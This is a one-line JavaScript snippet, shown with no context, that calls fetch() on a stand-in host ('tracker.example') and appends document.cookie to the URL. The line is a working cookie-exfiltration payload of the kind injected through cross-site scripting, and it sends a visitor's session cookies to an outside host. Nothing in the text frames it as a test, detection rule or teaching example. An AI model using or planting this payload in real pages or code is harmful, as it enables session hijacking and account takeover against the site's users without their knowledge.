fetch('https://tracker.example/?' + document.cookie);
